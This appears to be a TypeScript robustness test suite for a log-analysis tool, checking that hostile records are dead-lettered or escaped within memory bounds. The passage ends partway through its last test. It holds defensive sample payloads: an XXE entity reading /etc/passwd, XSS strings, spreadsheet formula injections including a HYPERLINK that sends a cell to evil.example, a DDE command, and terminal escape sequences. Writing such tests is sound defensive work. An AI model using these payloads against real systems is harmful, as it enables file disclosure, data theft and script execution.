// Hostile input through `hangwatch parse` / `analyze` / `timeline` as child processes under a heap limit
// (harness/run-bounded.ts): every hostile record ends as a dead letter with a reason (or, where DESIGN.md says
// so, as a flagged event), a valid record after it is still parsed, and peak memory stays under the bound.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { createReadStream, existsSync } from 'node:fs';
import { appendFile, cp, mkdir, open, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { ENTITY_BOMB_XML } from '../generator/hostile.js';
import { randomDumpHeader, repeatTo, systemEventXml, templateBombEvtx } from '../generator/hostile-files.js';
import { generateCorpus } from '../generator/generate.js';
import { DEFAULT_OPTIONS } from '../generator/types.js';
import { createRng } from '../generator/prng.js';
import { RSS_BOUND_MB, HEAP_LIMIT_MB, parseCounts, runBounded } from './harness/run-bounded.js';
import { SIZES, MODE, formatSize } from './harness/mode.js';
import { recordRow } from './harness/table.js';
import { writeDumpHeader } from '../fixtures/dump/dump-header-writer.js';
import { REPO, WORK } from './harness/paths.js';
import { collectingLogger, startFakeElasticsearch, startShipperRuntime, writeThrough, type BulkAnswer } from './harness/in-process.js';
import { MAX_SOURCE_STATES, SourceStates } from '../../services/parser/core/parse-record.js';
import { FORMAT_PARSERS } from '../../services/parser/core/registry.js';
import { GuestDirectory } from '../../services/parser/core/peer/guest-directory.js';
import { parseKafkaMessage } from '../../services/parser/core/peer/parse-kafka-message.js';
import type { BulkOp } from '../../services/indexer/core/bulk-plan.js';

const dir = join(WORK, 'hostile');
const VALID = '2017-03-15 05:11:55.000+0000: 4242: error : qemuMonitorIO:689 : internal error: End of file from monitor\n';
const libvirtdLine = (stamp: string, message: string): string => `${stamp}: 4242: error : qemuMonitorIO:689 : ${message}\n`;

interface Letter {
  error: { code: string; message: string };
  event: { original: string };
  hangwatch: { original: { encoding: string; length: number; sha256: string; truncated: boolean } };
}

async function readNdjson<T>(path: string, each: (value: T) => void): Promise<number> {
  let n = 0;
  const lines = createInterface({ input: createReadStream(path), crlfDelay: Infinity });
  for await (const line of lines) {
    if (!line) continue;
    each(JSON.parse(line) as T);
    n++;
  }
  return n;
}

interface Case {
  readonly order: string;
  readonly name: string;
  readonly format: string;
  readonly input: () => Promise<Buffer | string>;
  readonly maxRecordBytes?: number;
  readonly check: (result: { parsed: number; deadletters: number; letters: string; events: string }) => Promise<void>;
  /** Records the input holds (for the table). */
  readonly records: number;
  /** Wall-clock bound of the run, where the fault was a stall (a scan that was quadratic): asserted and in the row. */
  readonly timeBoundS?: number;
}

async function runCase(c: Case): Promise<void> {
  await mkdir(dir, { recursive: true });
  const input = join(dir, `${c.order}.input`);
  await writeFile(input, await c.input());
  const letters = join(dir, `${c.order}.deadletter.ndjson`);
  const events = join(dir, `${c.order}.events.ndjson`);
  const args = ['parse', '--format', c.format, '--host', 'hostile-host', '--deadletter', letters, ...(c.maxRecordBytes ? ['--max-record-bytes', String(c.maxRecordBytes)] : []), input];
  const started = Date.now();
  const run = await runBounded(args, events);
  const seconds = (Date.now() - started) / 1000;
  assert.equal(run.code, 0, `${c.name}: exit status (stderr: ${run.stderr.slice(-800)})`);
  const counts = parseCounts(run.stderr);
  await recordRow(c.order, {
    fault: `hostile: ${c.name}`,
    recordsIn: c.records,
    indexed: counts.parsed,
    deadletters: counts.deadletters,
    duplicates: 0,
    lost: c.records - counts.parsed - counts.deadletters,
    recovery: `peak RSS ${run.peakRssMb.toFixed(0)} MiB (bound ${RSS_BOUND_MB})${c.timeBoundS ? `, ${seconds.toFixed(1)} s (bound ${c.timeBoundS} s)` : ''}`,
    notes: `hangwatch parse --format ${c.format}${c.maxRecordBytes ? ` --max-record-bytes ${c.maxRecordBytes}` : ''}, heap limit ${HEAP_LIMIT_MB} MiB`,
  });
  assert.ok(run.peakRssMb < RSS_BOUND_MB, `${c.name}: peak RSS ${run.peakRssMb} MiB under ${RSS_BOUND_MB} MiB`);
  if (c.timeBoundS) assert.ok(seconds < c.timeBoundS, `${c.name}: ${seconds.toFixed(1)} s, bound ${c.timeBoundS} s`);
  assert.equal(counts.parsed + counts.deadletters, c.records, `${c.name}: every record is an event or a dead letter`);
  await c.check({ ...counts, letters, events });
  await rm(input);
}

/** Every dead letter has a catalogue code, a message, its original's length and SHA-256. */
async function checkLetters(path: string, code: RegExp, each?: (l: Letter) => void): Promise<void> {
  await readNdjson<Letter>(path, (l) => {
    assert.match(l.error.code, code);
    assert.ok(l.error.message.length > 0);
    assert.match(l.hangwatch.original.sha256, /^[0-9a-f]{64}$/);
    assert.ok(Buffer.byteLength(l.event.original) <= 128 * 1024, 'the original kept is bounded (64 KiB, base64 at most 4/3 of it)');
    each?.(l);
  });
}

const TINY_EVENT = '<Event><System><EventID>1</EventID><Computer>W</Computer></System></Event>';
const guestEvent = (id: number, record: number, data = ''): string => systemEventXml(id, record, 'WIN7-VM113', data);
const forgedEvent = systemEventXml(41, 99, 'WIN7-VM105', '0x00000101');
const huge = libvirtdLine('2017-03-15 05:11:54.777+0000', `internal error: ${'A'.repeat(SIZES.hugeLineBytes)}`);
const cases: Case[] = [
  {
    order: '10-01',
    name: `a ${formatSize(SIZES.hugeLineBytes, 'bytes')} line`,
    format: 'libvirtd',
    maxRecordBytes: 524_288, // the shipper's read.max_record_bytes
    records: 2,
    input: async () => huge + VALID,
    check: async ({ parsed, deadletters, letters }) => {
      assert.deepEqual({ parsed, deadletters }, { parsed: 1, deadletters: 1 });
      const whole = Buffer.from(huge.slice(0, -1));
      await checkLetters(letters, /^HW_RECORD_TOO_LARGE$/, (l) => {
        assert.equal(l.hangwatch.original.truncated, true);
        assert.equal(l.hangwatch.original.length, whole.length, 'the full length is kept');
        assert.equal(l.hangwatch.original.sha256, createHash('sha256').update(whole).digest('hex'), 'the SHA-256 of the whole record');
      });
    },
  },
  {
    order: '10-02',
    name: `${formatSize(SIZES.tinyLines, 'count')} tiny lines`,
    format: 'libvirtd',
    records: SIZES.tinyLines + 1,
    input: async () => 'x\n'.repeat(SIZES.tinyLines) + VALID,
    check: async ({ parsed, letters }) => {
      assert.equal(parsed, 1, 'the valid line after them is parsed');
      await checkLetters(letters, /^HW_PARSE_NO_MATCH$/);
    },
  },
  {
    order: '10-03',
    name: `${formatSize(SIZES.randomBytes, 'bytes')} of random bytes`,
    format: 'libvirtd',
    // Random bytes other than line ends, cut into 256-byte lines: the record count is known.
    records: Math.ceil(SIZES.randomBytes / 256) + 1,
    input: async () => {
      const rng = createRng(11).fork('random-bytes');
      const lines: Buffer[] = [];
      for (let done = 0; done < SIZES.randomBytes; done += 256) {
        const line = Buffer.alloc(Math.min(256, SIZES.randomBytes - done));
        for (let i = 0; i < line.length; i++) {
          let b = Math.floor(rng.next() * 256);
          if (b === 0x0a || b === 0x0d) b = 0x41;
          line[i] = b;
        }
        lines.push(line, Buffer.from('\n'));
      }
      return Buffer.concat([...lines, Buffer.from(VALID)]);
    },
    check: async ({ parsed, letters }) => {
      assert.equal(parsed, 1, 'the valid line after them is parsed');
      let base64 = 0;
      await checkLetters(letters, /^HW_(PARSE_NO_MATCH|RECORD_INVALID|RECORD_TOO_LARGE)$/, (l) => {
        if (l.hangwatch.original.encoding === 'base64') base64++;
      });
      assert.ok(base64 > 0, 'originals that are not UTF-8 are kept as base64');
    },
  },
  {
    order: '10-04',
    name: 'invalid UTF-8 in a record',
    format: 'libvirtd',
    records: 2,
    input: async () => Buffer.concat([Buffer.from("2017-03-15 05:11:54.777+0000: 4242: error : virFileReadAll:1360 : Failed to open file '/tmp/"), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from("': No such file\n"), Buffer.from(VALID)]),
    check: async ({ parsed, events }) => {
      // DESIGN.md section 4: replaced by U+FFFD, flagged, parsed like any other.
      assert.equal(parsed, 2);
      const first = JSON.parse((await readFile(events, 'utf8')).split('\n')[0] as string) as { event: { original: string }; hangwatch: { parse: { flags?: string[] } } };
      assert.ok(first.hangwatch.parse.flags?.includes('invalid-utf8'));
      assert.ok(first.event.original.includes('\uFFFD'));
    },
  },
  {
    order: '10-05',
    name: 'NUL bytes in a record',
    format: 'libvirtd',
    records: 2,
    input: async () => libvirtdLine('2017-03-15 05:11:54.777+0000', 'ignoring\u0000\u0000 permission error') + VALID,
    check: async ({ parsed, events }) => {
      assert.equal(parsed, 2);
      const first = JSON.parse((await readFile(events, 'utf8')).split('\n')[0] as string) as { event: { original: string } };
      assert.ok(first.event.original.includes('\u0000'), 'the original keeps its bytes (JSON escapes them)');
    },
  },
  {
    order: '10-06',
    name: 'XML entity expansion bomb',
    format: 'winevent-xml',
    records: 2, // the reader frames the DOCTYPE prelude and the <Event> as two records
    input: async () => ENTITY_BOMB_XML,
    check: async ({ deadletters, letters }) => {
      assert.equal(deadletters, 2);
      await checkLetters(letters, /^HW_XML_FORBIDDEN$/);
      assert.ok((await readFile(letters, 'utf8')).length < 4096, 'nothing was expanded');
    },
  },
  {
    order: '10-07',
    name: 'XML external entity (file:///etc/passwd)',
    format: 'winevent-xml',
    records: 2,
    input: async () =>
      "<?xml version='1.0'?><!DOCTYPE Event [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]><Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='EventLog'/><EventID Qualifiers='32768'>6008</EventID><Computer>WIN7-X</Computer></System><EventData><Data>&xxe;</Data></EventData></Event>\n",
    check: async ({ deadletters, letters, events }) => {
      assert.equal(deadletters, 2);
      await checkLetters(letters, /^HW_XML_FORBIDDEN$/);
      const passwd = (await readFile('/etc/passwd', 'utf8')).split('\n')[0] as string;
      for (const out of [letters, events]) assert.ok(!(await readFile(out, 'utf8')).includes(passwd), 'no file content was read');
    },
  },
  {
    order: '10-08',
    name: `JSON nested ${formatSize(SIZES.nestingDepth, 'count')} deep`,
    format: 'winlogbeat',
    records: 2,
    input: async () => `${'{"a":'.repeat(SIZES.nestingDepth)}1${'}'.repeat(SIZES.nestingDepth)}\n${winlogbeatDoc({})}`,
    check: async ({ parsed, deadletters, letters }) => {
      assert.deepEqual({ parsed, deadletters }, { parsed: 1, deadletters: 1 });
      await checkLetters(letters, /^HW_RECORD_INVALID$/, (l) => assert.match(l.error.message, /nested/));
    },
  },
  {
    order: '10-09',
    name: `a record with ${formatSize(SIZES.fields, 'count')} fields`,
    format: 'winlogbeat',
    records: 2,
    input: async () => `${winlogbeatDoc(Object.fromEntries(Array.from({ length: SIZES.fields }, (_, i) => [`f${i}`, 'v'])))}${winlogbeatDoc({})}`,
    check: async ({ parsed, deadletters, letters }) => {
      assert.deepEqual({ parsed, deadletters }, { parsed: 1, deadletters: 1 });
      await checkLetters(letters, /^HW_RECORD_INVALID$/, (l) => assert.match(l.error.message, /members/));
    },
  },
  {
    order: '10-10',
    name: `a WinDbg report of ${formatSize(SIZES.windbgFrames, 'count')} stack frames`,
    format: 'windbg',
    records: 1,
    input: async () => {
      const seed = await readFile(join(REPO, 'test', 'grammars', 'fixtures', 'windbg', 'seed-win7-x86-clock-watchdog.txt'), 'utf8');
      const frame = '807fc620 83c8d763 00026160 00000000 0011a800 nt!KeAccumulateTicks+0x242\n';
      return seed.replace(/STACK_TEXT: *\r?\n/, (m) => m + frame.repeat(SIZES.windbgFrames));
    },
    check: async ({ parsed, deadletters, letters, events }) => {
      // Either way is acceptable, never a crash or a silent drop: parsed (with the bugcheck) or a dead letter with its reason.
      if (parsed === 1) assert.match(await readFile(events, 'utf8'), /"0x00000101"/);
      else {
        assert.equal(deadletters, 1);
        await checkLetters(letters, /^HW_/);
      }
    },
  },
  {
    order: '10-11',
    name: 'timestamps in 1970, 1969 and 2200',
    format: 'libvirtd',
    records: 3,
    input: async () => libvirtdLine('1970-01-01 00:00:00.000+0000', 'epoch') + libvirtdLine('1969-12-31 23:59:59.000+0000', 'before the epoch') + libvirtdLine('2200-01-01 00:00:00.000+0000', 'far future'),
    check: async ({ parsed, deadletters, events, letters }) => {
      // Parsed at their own times, or refused with HW_TIME_INVALID: never moved to another time silently.
      const stamps: string[] = [];
      if (parsed > 0) await readNdjson<{ '@timestamp': string }>(events, (e) => stamps.push(e['@timestamp']));
      for (const s of stamps) assert.ok(['1970-01-01T00:00:00.000Z', '1969-12-31T23:59:59.000Z', '2200-01-01T00:00:00.000Z'].includes(s), s);
      if (deadletters > 0) await checkLetters(letters, /^HW_TIME_INVALID$/);
    },
  },
  {
    order: '10-13',
    name: `event XML junk: ${formatSize(SIZES.junkBytes, 'bytes')} each of '<?xml' repeated, '<Events ' repeated, blanks before a copied event's label`,
    format: 'winevent-xml',
    // Before: two backtracking expressions over the text between events; 1 MiB of '<?xml' was killed at 60 s.
    timeBoundS: 60,
    records: 5,
    input: async () =>
      `${repeatTo('<?xml', SIZES.junkBytes)}${guestEvent(6005, 1)}\n${repeatTo('<Events ', SIZES.junkBytes)}${guestEvent(6006, 2)}\n${repeatTo(' \t', SIZES.junkBytes)}\nEvent Xml:\n${guestEvent(6009, 3)}\n`,
    check: async ({ parsed, deadletters, letters, events }) => {
      assert.deepEqual({ parsed, deadletters }, { parsed: 3, deadletters: 2 });
      await checkLetters(letters, /^HW_(XML_MALFORMED|RECORD_INVALID)$/);
      const codes: string[] = [];
      await readNdjson<{ event: { code: string } }>(events, (e) => codes.push(e.event.code));
      assert.deepEqual(codes, ['6005', '6006', '6009'], 'the events after each run of junk are read');
    },
  },
  {
    order: '10-14',
    name: 'a forged event inside CDATA, a comment and a processing instruction',
    format: 'winevent-xml',
    records: 3,
    input: async () =>
      [
        guestEvent(6005, 1, `<![CDATA[</Event>${forgedEvent}<Event>]]>`),
        `<!-- ${forgedEvent} -->`,
        guestEvent(6006, 2, `<?forged </Event>${forgedEvent}<Event> ?>`),
        '',
      ].join('\n'),
    check: async ({ parsed, deadletters, letters, events }) => {
      // The CDATA and the instruction are data of the events they are in; the comment between events is text.
      assert.deepEqual({ parsed, deadletters }, { parsed: 2, deadletters: 1 });
      await checkLetters(letters, /^HW_RECORD_INVALID$/);
      const seen: Array<{ code: string; computer: string; param1: string | undefined }> = [];
      await readNdjson<{ event: { code: string }; winlog: { computer_name: string; event_data?: { param1?: string } } }>(events, (e) =>
        seen.push({ code: e.event.code, computer: e.winlog.computer_name, param1: e.winlog.event_data?.param1 }),
      );
      assert.deepEqual(
        seen.map((e) => [e.code, e.computer]),
        [
          ['6005', 'WIN7-VM113'],
          ['6006', 'WIN7-VM113'],
        ],
        'no forged 41 for WIN7-VM105',
      );
      assert.ok(seen[0]?.param1?.includes(`</Event>${forgedEvent}<Event>`), 'the CDATA text is kept as data');
    },
  },
  {
    order: '10-15',
    name: 'EVTX template bomb: a chunk of records each instantiating 2^40 renders',
    format: 'evtx',
    // Before: 4 KiB of templates kept analyze busy past 30 s; then a chunk of damaged records took 20 s to report.
    timeBoundS: 30,
    records: templateBombEvtx().records,
    input: async () => Buffer.from(templateBombEvtx().file),
    check: async ({ parsed, deadletters, letters }) => {
      assert.equal(parsed, 0);
      assert.equal(deadletters, templateBombEvtx().records, 'one dead letter per record, with the chunk offset');
      await checkLetters(letters, /^HW_EVTX_DAMAGED$/, (l) => assert.match(l.error.message, /rendering takes more than|rendering budget/));
    },
  },
  {
    order: '10-16',
    name: 'a crash dump header of random bytes after PAGEDU64',
    format: 'dump',
    records: 1,
    input: async () => Buffer.from(randomDumpHeader(createRng(16).fork('dump'))),
    check: async ({ deadletters, letters }) => {
      // Before: an incident in the year 48080.
      assert.equal(deadletters, 1);
      await checkLetters(letters, /^HW_DUMP_INVALID$/, (l) => assert.match(l.error.message, /implausible/));
    },
  },
  {
    order: '10-17',
    name: `${formatSize(SIZES.utf16Bytes, 'bytes')} of tiny events in UTF-16`,
    format: 'winevent-xml',
    // Before: each frame's file offset decoded its UTF-16 chunk from the start (64k tiny events in 1 MiB: 55 s).
    timeBoundS: 60,
    records: Math.floor(SIZES.utf16Bytes / 2 / TINY_EVENT.length),
    input: async () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(TINY_EVENT.repeat(Math.floor(SIZES.utf16Bytes / 2 / TINY_EVENT.length)), 'utf16le')]),
    check: async ({ parsed, events }) => {
      let k = 0;
      await readNdjson<{ log: { offset: number } }>(events, (e) => {
        assert.equal(e.log.offset, 2 + 2 * k * TINY_EVENT.length, 'each event at its offset in the UTF-16 file');
        k++;
      });
      assert.equal(parsed, Math.floor(SIZES.utf16Bytes / 2 / TINY_EVENT.length));
    },
  },
  {
    order: '10-18',
    name: `a kernel line of ${formatSize(SIZES.longLineBytes, 'bytes')} of '/'`,
    format: 'kernel',
    // Before: the grep-prefix expression split the word every way (64 KiB: 4 s, quadratic).
    timeBoundS: 60,
    records: 2,
    input: async () => `${'/'.repeat(SIZES.longLineBytes)}\nMar 15 13:11:55 sc7 kernel: [18053.112301] kvm: vcpu0, guest rIP: 0xfffff80002a3b5c0 ignored rdmsr: 0x641\n`,
    check: async ({ parsed, deadletters, events }) => {
      assert.equal(parsed + deadletters, 2);
      assert.match(await readFile(events, 'utf8'), /ignored rdmsr: 0x641/, 'the valid line after it is read');
    },
  },
  {
    order: '10-19',
    name: `an iostat line of ${formatSize(SIZES.longLineBytes, 'bytes')} of 'a a a'`,
    format: 'iostat',
    // Before: nearley's chart over thousands of tokens (16 KiB: 2 s and 400 MB; 64 KiB ran out of memory).
    timeBoundS: 60,
    records: 1,
    input: async () => `${'a '.repeat(SIZES.longLineBytes / 2)}\n`,
    check: async ({ deadletters, letters }) => {
      assert.equal(deadletters, 1);
      await checkLetters(letters, /^HW_PARSE_NO_MATCH$/, (l) => assert.match(l.error.message, /more than \d+ tokens/));
    },
  },
  {
    order: '10-20',
    name: "a UTC offset of '+9999' in a record, and as --tz",
    format: 'libvirtd',
    records: 2,
    input: async () => libvirtdLine('2017-03-15 05:11:54.777+9999', 'internal error: End of file from monitor') + VALID,
    check: async ({ parsed, deadletters, letters }) => {
      // Before: read as 100 hours east, the record moved by four days.
      assert.deepEqual({ parsed, deadletters }, { parsed: 1, deadletters: 1 });
      await checkLetters(letters, /^HW_TIME_INVALID$/, (l) => assert.match(l.error.message, /out of range/));
      const tz = await runBounded(['parse', '--format', 'kernel', '--tz', '+9999', '/dev/null'], join(dir, '10-20.tz.out'));
      assert.notEqual(tz.code, 0, '--tz +9999 is refused');
      assert.match(tz.stderr, /out of range \(offsets run from -12:00 to \+14:00\)/);
    },
  },
];


function winlogbeatDoc(eventData: Record<string, string>): string {
  return `${JSON.stringify({
    '@timestamp': '2017-03-15T05:11:54.777Z',
    event: { code: '41', provider: 'Microsoft-Windows-Kernel-Power' },
    winlog: { channel: 'System', event_id: '41', provider_name: 'Microsoft-Windows-Kernel-Power', record_id: 7, computer_name: 'WIN7-X', event_data: { BugcheckCode: '257', ...eventData } },
    host: { name: 'WIN7-X' },
    message: 'The system has rebooted without cleanly shutting down first.',
  })}\n`;
}

// The cases are independent child processes (own files, own peak memory measure): three at a time, so that
// their start-up (a few seconds each on a loaded machine) overlaps.
describe(`hostile input (${MODE})`, { concurrency: 3 }, () => {
  for (const c of cases) {
    test(c.name, { timeout: 600_000 }, async () => {
      await runCase(c);
    });
  }

  test('HTML and CSV injection in messages: timeline exports stay inert', { timeout: 600_000 }, async () => {
    const root = join(dir, 'injection');
    await rm(root, { recursive: true, force: true });
    const truth = generateCorpus(root, { ...DEFAULT_OPTIONS, seed: 5, hosts: 1, vmsPerHost: 1, hangs: 1, cleanShutdowns: 0 });
    const host = truth.hosts[0]?.name as string;
    const payloads = ['<script>alert(1)</script>', '<img src=x onerror=alert(2)>', '=HYPERLINK("http://evil.example/?"&A1,"x")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)', '-2+3'];
    const at = new Date(Date.parse(truth.window.gte) + 3_600_000).toISOString().replace('T', ' ').replace('Z', '+0000');
    const injected = payloads.map((p) => libvirtdLine(at, p)).join('');
    await appendFile(join(root, host, 'var', 'log', 'libvirt', 'libvirtd.log'), injected);
    const analysis = join(root, 'analysis');
    const analyzed = await runBounded(['analyze', '--out', analysis, '--year-reference', truth.referenceTime, join(root, host)], join(root, 'analyze.out'));
    assert.equal(analyzed.code, 0, analyzed.stderr.slice(-500));
    const from = truth.window.gte;
    const to = truth.window.lte;
    const exports: Record<string, string> = {};
    for (const format of ['html', 'csv', 'md'] as const) {
      const out = join(root, `timeline.${format}`);
      const r = await runBounded(['timeline', '--host', host, '--from', from, '--to', to, '--format', format, '--source', analysis, '--out', out], join(root, `timeline-${format}.stdout`));
      assert.equal(r.code, 0, r.stderr.slice(-500));
      exports[format] = await readFile(out, 'utf8');
    }
    const html = exports.html as string;
    const csv = exports.csv as string;
    assert.ok(html.includes('alert(1)'), 'the payload is in the export (as text)');
    assert.ok(!html.includes('<script>alert(1)</script>'), 'no live script element');
    assert.ok(!/<img[^>]*onerror=alert\(2\)/.test(html), 'no live event handler');
    // CSV: a cell beginning with = + - @ is a formula in spreadsheets (OWASP CSV injection): it must be neutralized.
    for (const line of csv.split('\n')) {
      for (const cell of line.split(',')) {
        const text = cell.replace(/^"/, '');
        assert.ok(!/^[=+@]/.test(text), `formula cell in CSV: ${cell.slice(0, 80)}`);
      }
    }
    assert.ok(csv.includes('HYPERLINK'), 'the payload is in the CSV (as text)');
    await recordRow('10-12', {
      fault: 'hostile: HTML/CSV injection in messages',
      recordsIn: payloads.length,
      indexed: payloads.length,
      deadletters: 0,
      duplicates: 0,
      lost: 0,
      recovery: 'inert in html/csv/md',
      notes: 'hangwatch analyze + timeline --host (html, csv, md); Kibana objects checked in 40-security',
    });
  });

  test('analyze over a 3 GiB file of unknown format, an unreadable file and hostile guest artefacts beside valid logs', { timeout: 600_000 }, async () => {
    const root = join(dir, 'analyze-bad-files');
    await rm(root, { recursive: true, force: true });
    const host = join(root, 'kvm-hostile');
    const guest = join(host, 'guests', 'vm1');
    await mkdir(join(host, 'var', 'log', 'libvirt'), { recursive: true });
    await mkdir(guest, { recursive: true });
    await writeFile(join(host, 'var', 'log', 'libvirt', 'libvirtd.log'), VALID);
    // Sparse: three gigabytes of no known format that take no disk. Before: read whole (1 GiB: 1.16 GB of memory),
    // 3 GiB failed with ERR_FS_FILE_TOO_LARGE and ended the run.
    const sparse = await open(join(host, 'collected.bin'), 'w');
    await sparse.write(Buffer.from('\u0001\u0002 collected, no known format \u0003'), 0, undefined, 0);
    await sparse.truncate(SIZES.sparseBytes);
    await sparse.close();
    const bomb = templateBombEvtx();
    await writeFile(join(guest, 'System.evtx'), bomb.file);
    await writeFile(join(guest, 'MEMORY.DMP'), randomDumpHeader(createRng(21).fork('dump')));
    await writeFile(join(guest, 'System.xml'), `${repeatTo('<?xml', SIZES.junkBytes)}${guestEvent(6005, 1)}\n`);
    // A file that cannot be read: reading /proc/self/mem at offset 0 fails with EIO (Linux).
    const unreadable = existsSync('/proc/self/mem') ? ['/proc/self/mem'] : [];
    const started = Date.now();
    const run = await runBounded(['analyze', '--out', join(root, 'out'), host, ...unreadable], join(root, 'analyze.out'));
    const seconds = (Date.now() - started) / 1000;
    assert.equal(run.code, 0, `analyze goes on past every bad file and exits 0: ${run.stderr.slice(-800)}`);
    const summary = /hangwatch analyze: (\d+) files from \d+ host\(s\), (\d+) events, (\d+) dead letters(?: \(([^)]*)\))?/.exec(await readFile(join(root, 'analyze.out'), 'utf8'));
    assert.ok(summary, 'the summary line with the counts');
    const byPath = new Map<string, string[]>();
    await readNdjson<Letter & { log?: { file?: { path?: string } } }>(join(root, 'out', 'deadletter.ndjson'), (l) => {
      const path = l.log?.file?.path ?? '?';
      byPath.set(path, [...(byPath.get(path) ?? []), l.error.code]);
    });
    assert.deepEqual(byPath.get(join(host, 'collected.bin')), ['HW_PARSE_UNKNOWN_FORMAT']);
    assert.deepEqual(byPath.get(join(guest, 'MEMORY.DMP')), ['HW_DUMP_INVALID']);
    assert.equal(byPath.get(join(guest, 'System.evtx'))?.length, bomb.records);
    assert.ok(byPath.get(join(guest, 'System.evtx'))?.every((c) => c === 'HW_EVTX_DAMAGED'));
    assert.equal(byPath.get(join(guest, 'System.xml'))?.length, 1);
    if (unreadable.length > 0) {
      assert.deepEqual(byPath.get('/proc/self/mem'), ['HW_INPUT_UNREADABLE']);
      assert.match(summary[4] ?? '', /1 files unreadable/);
    }
    const codes: string[] = [];
    await readNdjson<{ event: { code?: string; action?: string } }>(join(root, 'out', 'events.ndjson'), (e) => codes.push(e.event.code ?? e.event.action ?? ''));
    assert.ok(codes.includes('6005') && codes.includes('monitor-eof'), `the valid records are analysed: ${codes.join(', ')}`);
    assert.ok(run.peakRssMb < RSS_BOUND_MB, `peak RSS ${run.peakRssMb} MiB`);
    assert.ok(seconds < 120, `${seconds} s`);
    await recordRow('10-21', {
      fault: `hostile: analyze over a ${formatSize(SIZES.sparseBytes, 'bytes')} unknown file, an unreadable one, a template-bomb EVTX, a random dump, ${formatSize(SIZES.junkBytes, 'bytes')} of XML junk`,
      recordsIn: `${summary[1]} files`,
      indexed: Number(summary[2]),
      deadletters: Number(summary[3]),
      duplicates: 0,
      lost: 0,
      recovery: `exit 0, peak RSS ${run.peakRssMb.toFixed(0)} MiB (bound ${RSS_BOUND_MB}), ${seconds.toFixed(1)} s (bound 120 s)`,
      notes: `hangwatch analyze; one dead letter per bad file (per EVTX record), the rest analysed: ${summary[4] ?? ''}`,
    });
  });

  test('terminal and export injection: ESC, CSI U+009B and RLO U+202E in a guest WinDbg report', { timeout: 600_000 }, async () => {
    const root = join(dir, 'terminal-injection');
    await rm(root, { recursive: true, force: true });
    const truth = generateCorpus(root, { ...DEFAULT_OPTIONS, seed: 7, hosts: 1, vmsPerHost: 1, hangs: 1, cleanShutdowns: 0 });
    const host = truth.hosts[0]?.name as string;
    const report = join(root, truth.hangs[0]?.windbg as string);
    // An OSC title change, an SGR colour, a C1 CSI clearing the screen, a right-to-left override hiding `.exe`.
    const payload = 'sys\u001b]0;owned\u0007\u001b[31mtem\u009b2J\u202eexe.evil';
    await writeFile(report, (await readFile(report, 'utf8')).replace(/PROCESS_NAME:(\s+)\S+/, `PROCESS_NAME:$1${payload}`));
    const analysis = join(root, 'analysis');
    const outputs: Record<string, string> = {};
    const analyzed = await runBounded(['analyze', '--out', analysis, '--year-reference', truth.referenceTime, join(root, host)], join(root, 'analyze.out'));
    assert.equal(analyzed.code, 0, analyzed.stderr.slice(-500));
    outputs['analyze (terminal)'] = (await readFile(join(root, 'analyze.out'), 'utf8')) + analyzed.stderr;
    for (const format of ['csv', 'md', 'html', 'jsonl'] as const) {
      const out = join(root, `timeline.${format}`);
      const r = await runBounded(['timeline', '--host', host, '--from', truth.window.gte, '--to', truth.window.lte, '--format', format, '--source', analysis, '--out', out], join(root, `timeline-${format}.stdout`));
      assert.equal(r.code, 0, r.stderr.slice(-500));
      outputs[`timeline ${format}`] = await readFile(out, 'utf8');
    }
    const toStdout = await runBounded(['timeline', '--host', host, '--from', truth.window.gte, '--to', truth.window.lte, '--format', 'csv', '--source', analysis], join(root, 'timeline-stdout.csv'));
    assert.equal(toStdout.code, 0, toStdout.stderr.slice(-500));
    outputs['timeline csv (stdout)'] = await readFile(join(root, 'timeline-stdout.csv'), 'utf8');
    for (const [where, text] of Object.entries(outputs)) {
      assert.ok(!/[\u001b\u0007\u009b\u202e]/.test(text), `${where}: no raw ESC, BEL, CSI or RLO`);
    }
    for (const where of ['timeline csv', 'timeline md', 'timeline html', 'timeline jsonl', 'timeline csv (stdout)']) {
      assert.ok(/sys\\u001b\\?\]0;owned/.test(outputs[where] as string), `${where}: the payload is shown, visibly escaped`);
    }
    await recordRow('10-22', {
      fault: 'hostile: ESC / CSI U+009B / RLO U+202E in a WinDbg PROCESS_NAME',
      recordsIn: 1,
      indexed: 1,
      deadletters: 0,
      duplicates: 0,
      lost: 0,
      recovery: 'no raw control in any output; shown as \\u001b, \\u009b, \\u202e',
      notes: 'hangwatch analyze (terminal) + timeline --host csv/md/html/jsonl to files and csv to stdout',
    });
  });

  test('Elasticsearch refuses us as a client (401, then 403 per item), then accepts', { timeout: 600_000 }, async () => {
    // The indexer's bulk writer against a stand-in Elasticsearch: 401 for the whole request for 3 s (an expired API
    // key), then 403 for every item for 3 s (a role without the index privilege), then it accepts. Before: split,
    // every document dead-lettered and counted lost, offsets committed.
    const refusedForMs = 6_000;
    const began = Date.now();
    const fake = await startFakeElasticsearch((): BulkAnswer => {
      const t = Date.now() - began;
      if (t < refusedForMs / 2) return 'unauthorized';
      if (t < refusedForMs) return 'forbidden-items';
      return 'accept';
    });
    const total = 500;
    const ops: BulkOp[] = Array.from({ length: total }, (_, i) => ({
      kind: 'index',
      index: 'hangwatch-events-2017.03.15',
      id: `hostile-refused-${i}`,
      doc: { '@timestamp': '2017-03-15T05:11:55.000Z', event: { id: `hostile-refused-${i}` }, message: 'x' },
      source: { topic: 'hangwatch.events.v1', partition: 0, offset: String(i), value: null },
    }));
    const { logger, lines } = collectingLogger();
    try {
      const { counts, outages } = await writeThrough(fake.url, ops, logger);
      // From the moment it accepts again to the last acknowledgement: the writer's backoff (capped at 10 s).
      const recovery = (Date.now() - began - refusedForMs) / 1000;
      assert.equal(counts.indexed, total, 'every document acknowledged once Elasticsearch accepts');
      assert.equal(counts.deadlettered, 0, 'a refusal is not a bad document');
      assert.equal(counts.lost, 0);
      assert.equal(fake.ids.size, total);
      assert.ok(fake.answered.unauthorized > 0 && fake.answered['forbidden-items'] > 0, JSON.stringify(fake.answered));
      assert.deepEqual(outages, [true, false], 'one outage reported (readiness false), then over');
      const errors = lines.filter((l) => l.level === 50);
      assert.equal(errors.length, 1, `one clear error line: ${JSON.stringify(errors.map((l) => l.msg))}`);
      assert.match(String(errors[0]?.msg), /HTTP 401/);
